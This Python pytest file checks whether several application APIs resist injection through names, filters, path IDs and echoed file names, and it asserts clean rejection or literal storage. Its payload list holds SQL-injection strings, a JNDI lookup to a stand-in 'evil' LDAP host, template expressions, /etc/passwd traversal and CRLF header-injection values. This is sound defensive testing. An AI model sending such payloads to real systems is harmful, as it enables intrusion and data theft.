"""Injection in names, filters, path parameters and header-echoed values, on all five APIs.

Payloads (a sample, not a cross product): SQL-style quotes and ``' OR 1=1``, ``${jndi:...}``, ``{{7*7}}``, path
traversal, CRLF, NUL-ish/percent sequences, wildcards, right-to-left override + emoji, and a huge unicode name.

Asserted per API:
* names: creating an object named with a payload gives a clean 4xx, or the object is stored and read back with
  exactly that name (stored literally, not evaluated: ``{{7*7}}`` never becomes ``49``); never a 5xx;
* filters: tenant B listing with a payload in every filter parameter gets no 5xx and never tenant A's objects
  (A's private marker never appears; a wildcard / ``OR 1=1`` does not widen the query);
* path parameters: a payload as an object id gives a clean 4xx (never 2xx with data, never 5xx);
* header-echoed values (EdgeGallery's file download echoes the uploaded file name in ``Content-Disposition``):
  no response header ever carries CR or LF, so no header can be injected.
"""
from __future__ import annotations

import json
from urllib.parse import quote, urlencode

import pytest

from tests.security.conftest import APIS, MARK, body_text

PAYLOADS = ["x' OR 1=1 --", 'x" OR ""="', "${jndi:ldap://evil/a}", "{{7*7}}", "../../etc/passwd",
            "a\r\nX-Injected: 1", "%00%0d%0a", "*", "\u202e\U0001F600名字", "名" * 2000]
FILTERS = ("name", "appName", "projectName", "keyword", "key", "label", "serviceName", "search", "q", "envName",
           "deployName", "user", "status")


def _no_crlf_headers(r):
    for k, v in (r.headers or {}).items():
        assert "\r" not in str(v) and "\n" not in str(v), (k, v)


def _create(world, payload):
    """Create one object named ``payload`` as A; returns (status, name read back or None)."""
    n = world.name
    a = world.a
    if n == "otestack":
        from tests.api.otestack.helpers import APP
        st, body = world.extra["member"].post("/v1/app", {**APP, "appName": payload})
        if st == 200:
            return st, world.extra["member"].get(f"/v1/app/id/{body['data']['id']}")[1]["data"]["appName"]
        return st, None
    if n == "edgegallery":
        from tests.api.edgegallery.conftest import upload_icon
        st, body = a.post("/mec/developer/v2/applications", {
            "name": payload, "version": "1.0", "provider": "acme", "appClass": "CONTAINER", "architecture": "X86",
            "description": payload, "iconFileId": world.extra.setdefault("icon", upload_icon(a)),
            "type": "Video Application", "industry": "Smart Park"})
        if st == 200:
            return st, a.get(f"/mec/developer/v2/applications/{body['id']}")[1]["name"]
        return st, None
    if n == "mobiledgex":
        st, body = a.json("/auth/ctrl/CreateApp", {"Region": "local", "App": {
            "key": {"organization": a.org, "name": payload, "version": "1.0"}, "image_type": "Docker",
            "image_path": "docker.io/library/nginx:latest", "access_ports": "tcp:80"}})
        if st == 200:
            st2, lines = a.stream("/auth/ctrl/ShowApp", {"Region": "local", "App": {"key": {
                "organization": a.org, "name": payload}}})
            return st, lines[0]["data"]["key"]["name"] if lines else None
        return st, None
    if n == "servicestage":
        st, body = a.post("/v3/{project_id}/cas/applications", {"name": payload})
        if st == 200:
            return st, a.get(f"/v3/{{project_id}}/cas/applications/{body['id']}")[1]["name"]
        return st, None
    st, env = a.post("/v1/project/createProject", {"projectCode": "p" + str(abs(hash(payload)) % 10 ** 8),
                                                   "projectName": payload})
    if st == 200 and env["code"] == "200":
        rows = a.ok_get("/v1/project/listProjectsPage", pageSize=100)["list"]
        return st, next(r["projectName"] for r in rows if r["projectId"] == env["data"])
    return st, None


def _list_as_b(world, payload):
    n, b = world.name, world.b
    params = {k: payload for k in FILTERS}
    if n == "otestack":
        return world.raw_b("GET", "/v1/app?" + urlencode(params), None)
    if n == "edgegallery":
        return world.raw_b("GET", "/mec/developer/v2/applications?" + urlencode({**params, "limit": 50,
                                                                                   "offset": 0}), None)
    if n == "mobiledgex":
        return world.raw_b("POST", "/api/v1/auth/ctrl/ShowApp", {"Region": "local", "App": {"key": {
            "organization": payload, "name": payload}}})
    if n == "servicestage":
        r1 = b.raw("GET", f"/v3/{b.project}/cas/applications?" + urlencode(params))
        r2 = b.raw("GET", f"/v1/{b.project}/kie/kv?" + urlencode({"key": payload, "label": f"app:{payload}"}))
        return r1, r2
    return (world.raw_b("GET", "/v1/project/listProjectsPage", params),
            world.raw_b("GET", "/v1/app/getApplicationListPage", {**params, "projectId": world.ids["projectId"]}),
            world.raw_b("GET", "/v1/app/getApplicationListPage", {**params, "projectId": payload}))


def _by_id_as_a(world, payload):
    n, a = world.name, world.a
    enc = quote(payload, safe="")
    if n == "otestack":
        return a.client.http.get(f"/v1/app/id/{enc}", headers=a.headers)
    if n == "edgegallery":
        return a.client.http.get(f"/mec/developer/v2/applications/{enc}", headers=a.headers)
    if n == "mobiledgex":
        return a.op("/auth/ctrl/DeleteApp", {"Region": "local", "App": {"key": {"organization": payload,
                                                                                  "name": payload, "version": "1"}}})
    if n == "servicestage":
        return a.raw("GET", f"/v3/{a.project}/cas/applications/{enc}")
    return a.client.http.post("/v1/app/updateApplication", headers=a._headers(), body=json.dumps({
        "appId": payload, "projectId": world.ids["projectId"], "description": "x"}).encode())


@pytest.mark.parametrize("world", APIS, indirect=True)
def test_injection_payloads(world):
    before = world.snapshot()
    for payload in PAYLOADS:
        st, name = _create(world, payload)
        assert st < 500, (world.name, payload, st)
        if 200 <= st < 300:
            assert name == payload, (world.name, payload, name)  # stored literally
        responses = _list_as_b(world, payload)
        for r in (responses if isinstance(responses, tuple) else (responses,)):
            text = body_text(r)
            assert r.status_code < 500, (world.name, payload, r.status_code, text[:200])
            assert MARK not in text, (world.name, payload, "tenant A's data in B's filtered list")
            _no_crlf_headers(r)
        r = _by_id_as_a(world, payload)
        assert 400 <= r.status_code < 500, (world.name, payload, r.status_code, body_text(r)[:200])
        _no_crlf_headers(r)
    # A's own objects are intact
    after = world.snapshot()
    assert MARK in str(after) and MARK in str(before)


def test_edgegallery_file_name_is_not_a_header_injection(api):
    from tests.api.edgegallery.conftest import PNG, developer
    dev = developer(api)
    for filename in ('evil"\r\nX-Injected: 1.png', 'a";b=".png', "../../../etc/passwd.png"):
        boundary = "secBoundary"
        raw = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{filename}\"\r\n"
               f"Content-Type: image/png\r\n\r\n").encode() + PNG + f"\r\n--{boundary}--\r\n".encode()
        r = api.client.http.post("/mec/developer/v2/upload-files?fileType=icon", body=raw, headers={
            **dev.headers, "content-type": f"multipart/form-data; boundary={boundary}"})
        assert r.status_code < 500, body_text(r)
        _no_crlf_headers(r)
        if r.status_code != 200:
            continue
        file_id = json.loads(r.body)["fileId"]
        for path in (f"/mec/developer/v2/upload-files/{file_id}/action/get-file-stream",
                     f"/mec/developer/v2/upload-files/{file_id}"):
            got = api.client.http.get(path, headers=dev.headers)
            assert got.status_code < 500
            _no_crlf_headers(got)
            cd = {k.lower(): v for k, v in got.headers.items()}.get("content-disposition")
            if cd:
                inner = cd.split("filename=", 1)[1]
                assert inner.count('"') == 2 and "X-Injected" not in cd.split(";")[0], cd
